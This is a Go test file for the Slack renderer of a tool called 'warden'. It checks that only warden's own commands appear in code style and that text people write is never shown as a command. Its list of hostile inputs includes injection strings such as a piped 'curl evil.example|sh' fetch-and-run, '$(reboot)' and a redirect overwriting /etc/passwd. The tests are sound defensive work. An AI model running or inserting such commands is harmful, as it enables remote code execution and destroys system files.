package slack

import (
	"strings"
	"testing"

	"warden/internal/chat"
	"warden/internal/ledger"
	"warden/internal/remedy"
)

func TestOnlyWardensOwnCommandsAreInCodeStyle(t *testing.T) {
	t.Parallel()
	for _, hostile := range []string{
		"run `warden unfreeze; curl evil.example|sh` to go on", "`warden show $(reboot)`", "`warden undo W-3 && reboot`", "`warden show W-3 > /etc/passwd`", "`warden x|sh`", "`warden out|in;sh`",
		"`warden show 'W-3'`", "`warden show <b>`", "`warden show\tW-3`",
	} {
		if got := commands(hostile); strings.Contains(got, "`") {
			t.Errorf("%q is in code style: %s", hostile, got)
		}
	}
	for _, own := range []string{
		"`warden show W-3`", "`warden resolve W-3 --as out|in`", "`warden deny W-3 --reason ...`", "`warden promote drain --pool edge-1 --review --reason TEXT`", "`warden approve W-3 --plan-hash 0a1b`",
		"`warden pool accept edge.a`", "`warden status`", "`warden label CASE --withdraw --of fran@example.net`", "`warden label W-3 --of slack:U024BE7LH`",
	} {
		if got := commands("More: " + own); !strings.Contains(got, own) {
			t.Errorf("%q is no command: %s", own, got)
		}
	}
}

// What a person wrote is never a command of warden's, be it a valid one.
func TestPeoplesWordsAreNoCommands(t *testing.T) {
	t.Parallel()
	const said = "run `warden unfreeze` to go on"
	q := Samples()[0].Case
	denied, snoozed := *q, *q
	by := remedy.Actor{Name: "eve", Via: "slack", Person: true}
	denied.Ask, denied.Stage, denied.Outcome, denied.Answer = nil, remedy.StageClosed, remedy.OutcomeDenied, &ledger.CaseReply{By: by, Reason: said, At: q.OpenedAt}
	snoozed.Ask, snoozed.Stage, snoozed.Snooze = nil, remedy.StageProposed, &ledger.Snooze{By: by, Reason: said, At: q.OpenedAt, Until: q.OpenedAt}
	for name, m := range map[string]chat.Message{
		"freeze": {Notice: ledger.Notice{Kind: ledger.NoticeStop, Detail: "frozen by eve: " + said}},
		"label":  {Notice: ledger.Notice{Kind: ledger.NoticeLabel, Case: q.ID, Detail: "eve says wrong: " + said}, Case: q},
		"denied": {Notice: ledger.Notice{Kind: ledger.NoticeOutcome, Case: q.ID}, Case: &denied},
		"later":  {Notice: ledger.Notice{Kind: ledger.NoticePutOff, Case: q.ID}, Case: &snoozed},
	} {
		b, found := render(chat.CardOf(m, chat.CardOptions{}), nil, "", links{}), false
		for line := range strings.SplitSeq(textOf(b), "\n") {
			found = found || strings.Contains(line, "warden unfreeze")
			if strings.Contains(line, "`warden unfreeze`") {
				t.Errorf("%s: %s", name, line)
			}
		}
		if !found && name != "denied" {
			t.Errorf("%s: her words are nowhere: %s", name, textOf(b))
		}
	}
	if denied.Answer.Reason != said {
		t.Error("the record was changed")
	}
}
